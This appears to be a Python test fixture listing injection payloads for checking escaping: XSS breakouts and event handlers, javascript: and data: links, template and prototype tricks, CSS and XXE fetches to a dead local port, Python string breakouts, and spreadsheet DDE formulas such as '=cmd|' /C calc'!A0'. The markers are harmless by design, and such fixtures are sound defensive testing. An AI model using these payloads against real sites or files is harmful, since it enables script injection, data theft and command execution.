"""Texts that would do harm if any part of them ran: in a page, in a file, in a spreadsheet.

The long ones change a title, open a dialog and send a request; the short ones, made from parts,
leave a mark (`ran`) on the window or send a request, and fit into a notice that quotes a text.
"""

from itertools import chain, product

ATTACK = "top.document.title=`taken`;alert(1);fetch(`http://127.0.0.1:9/stolen`)"
MARK = "top.ran=1"
AWAY = "http://127.0.0.1:9/"
"""Nobody listens there: whoever asks for it is noticed."""

LONG = (
    f"</script><script>{ATTACK}</script>",
    f"</SCRIPT ><script>{ATTACK}</script>",
    f"--></script><script>{ATTACK}//",
    f"<!--<script>{ATTACK}</script>-->",
    "<!--",
    "<!--<script>",
    "-->",
    "]]>",
    f'<img src=x onerror="{ATTACK}">',
    f"<img src=http://127.0.0.1:9/p onload='{ATTACK}'>",
    f'"><svg onload="{ATTACK}">',
    f"'><body onload='{ATTACK}'>",
    f"</title><script>{ATTACK}</script>",
    f"</text></svg><script>{ATTACK}</script>",
    f"<foreignObject><iframe srcdoc='<script>{ATTACK}</script>'></foreignObject>",
    f'<iframe src="javascript:{ATTACK}">',
    f'<a href="javascript:{ATTACK}">click</a>',
    "<meta http-equiv=refresh content='0;url=http://127.0.0.1:9/away'>",
    "<link rel=stylesheet href=http://127.0.0.1:9/style>",
    "<style>@import 'http://127.0.0.1:9/style';</style>",
    "<base href=http://127.0.0.1:9/>",
    "<form action=http://127.0.0.1:9/><input autofocus onfocus=alert(1)>",
    f'<details open ontoggle="{ATTACK}">',
    f'<video><source onerror="{ATTACK}"></video>',
    f"<math><mtext></mtext><script>{ATTACK}</script></math>",
    f'";{ATTACK};"',
    f"';{ATTACK};'",
    f"`;{ATTACK};`",
    f"${{{ATTACK}}}",
    f'\\";{ATTACK};//',
    f"*/{ATTACK}/*",
    f"\u2028{ATTACK}\u2029",
    f"\\u003cscript\\u003e{ATTACK}\\u003c/script\\u003e",
    f"&lt;script&gt;{ATTACK}&lt;/script&gt;",
    f"&#60;script&#62;{ATTACK}",
    f"{{{{constructor.constructor('{ATTACK}')()}}}}",
    "PYTHON_PARAMS",
    "__proto__",
    "trailing backslash \\",
)

_SCRIPTS = tuple(
    before + f"<{tag}>{MARK}</{tag.split()[0]}>"
    for before in ("", '">', "'>", "</textarea>", "</style>", "</code></pre>")
    for tag in ("script", "ScRiPt x", "script/")
)
_HANDLERS = tuple(
    f"<{tag} {handler}={quote}{MARK}{quote}>"
    for tag, handler in (
        ("img src=x", "onerror"),
        ("svg", "onload"),
        ("svg><animate attributeName=x dur=1s", "onbegin"),
        ("svg><set attributeName=x", "onbegin"),
        ("body", "onpageshow"),
        ("input autofocus", "onfocus"),
        ("details open", "ontoggle"),
        ("audio src=x", "onerror"),
        ("object data=x", "onerror"),
        ("marquee", "onstart"),
        ("p style='animation:a 1s'", "onanimationstart"),
        ("b tabindex=0 autofocus", "onfocus"),
        ("div popover", "onbeforetoggle"),
        ("image href=x", "onerror"),
    )
    for quote in ("", '"')
)
_ADDRESSES = (
    f"javascript:{MARK}",
    f"JaVaScRiPt:{MARK}",
    f"java\tscript:{MARK}",
    f"\x01javascript:{MARK}",
    f"&#106;avascript:{MARK}",
    f"javascript&colon;{MARK}",
    f"data:text/html,<script>{MARK}</script>",
    "data:text/html;base64,PHNjcmlwdD50b3AucmFuPTE8L3NjcmlwdD4=",
    f"vbscript:{MARK}",
    f"{AWAY}x",
)
_PLACES = (
    "<a href='{0}' id=b>b</a>",
    "<iframe src='{0}'>",
    "<object data='{0}'>",
    "<embed src='{0}'>",
    "<form><button formaction='{0}'>",
    "<svg><a xlink:href='{0}'>b",
    "[b]({0})",
    "![b]({0})",
    "[b]: {0}",
    "$\\href{{{0}}}{{b}}$",
    "$$\\includegraphics{{{0}}}$$",
)
_LINKS = tuple(place.format(address) for place, address in product(_PLACES, _ADDRESSES))
_TEMPLATES = (
    f"{{{{constructor.constructor('{MARK}')()}}}}",
    f"${{{MARK}}}",
    f"#{{{MARK}}}",
    f"<%= {MARK} %>",
    f"{{% {MARK} %}}",
    f"[[{MARK}]]",
    f"'+({MARK})+'",
    f"datum['constructor']['constructor']('{MARK}')()",
    f"'+toString.constructor('{MARK}')()+'",
    f'{{"signal": "[].sort.constructor(`{MARK}`)()"}}',
    f'{{"expr": "event.view.eval(`{MARK}`)"}}',
    f'{{"url": "{AWAY}d.json"}}',
    f'"}}],"marks":[{{"href":"javascript:{MARK}"}}',
    ":material/home: :red-background[b] :streamlit:",
    "```\n</code>\n```",
    f"~~~\n<script>{MARK}</script>\n~~~",
    f"<details><summary>b</summary><script>{MARK}</script></details>",
    f"<{AWAY}x>",
    f"www.example.org <mailto:a@b.org> {AWAY}",
)
_STYLES = (
    f"<style>@import '{AWAY}s';</style>",
    f"<p style=\"background:url('{AWAY}b')\">",
    f"<link rel=stylesheet href={AWAY}s>",
    f"<link rel=prefetch href={AWAY}s>",
    f"}}</style><script>{MARK}</script>",
    f";background:url({AWAY}b)",
    f'"style="background:url({AWAY}b)',
    f"<svg><style>*{{fill:url({AWAY}f)}}</style>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<base href={AWAY}>",
)
_PARTED = (
    f"\u2028{MARK}\u2029",
    f"\ud83d<script>{MARK}</script>\udc00",
    f"\xc0\xbcscript\xc0\xbe{MARK}",
    f"\x00<script>{MARK}</script>",
    f"<scr\x00ipt>{MARK}</script>",
    f"＜script＞{MARK}＜/script＞",
    f"%3Cscript%3E{MARK}%3C/script%3E",
    f"\\x3cscript\\x3e{MARK}",
    f"\\u003cscript>{MARK}",
    f"&lt;script&gt;{MARK}",
    f"&amp;lt;script&amp;gt;{MARK}",
    f"<!--><script>{MARK}</script>",
    f"<![CDATA[><script>{MARK}</script>]]>",
    f"<?xml version='1.0'?><x onload={MARK}>",
    f"<!DOCTYPE x [<!ENTITY e SYSTEM '{AWAY}e'>]>&e;",
    f"--!><script>{MARK}</script>",
    f"*/{MARK}/*",
    f"\\';{MARK}//",
    f'\\";{MARK}//',
    f"`;{MARK};`",
    f"\u202e<script>{MARK}</script>",
)
_PYTHON = (
    "'; open('ran', 'w') #",
    '"; open("ran", "w") #',
    "'''\nopen('ran', 'w')\n'''",
    '"""\nopen("ran", "w")\n"""',
    "\nopen('ran', 'w')\n#",
    "\r\nopen('ran', 'w')\r#",
    "\x0copen('ran', 'w')",
    "\u2028open('ran', 'w')\u2028",
    "\\",
    "\\'",
    "{open('ran', 'w')}",
    "\\N{DIGIT ONE}\\x41\\101",
    "%s %(a)s {0} {a!r}",
)
_SPREADSHEET = (
    "=cmd|' /C calc'!A0",
    f'=HYPERLINK("{AWAY}x","b")',
    f'=WEBSERVICE("{AWAY}x")',
    f'=IMPORTXML("{AWAY}x","//a")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    ' =1+1";=1+1',
    "x;=1+1",
    "x,=1+1",
    "＝1+1",
    "%0A=1+1",
    "=DDE('a';'b';'c')",
)

SHORT = tuple(
    chain(
        _SCRIPTS, _HANDLERS, _LINKS, _TEMPLATES, _STYLES, _PARTED, _PYTHON, _SPREADSHEET,
    )
)  # fmt: skip
ALL = (*LONG, *SHORT)
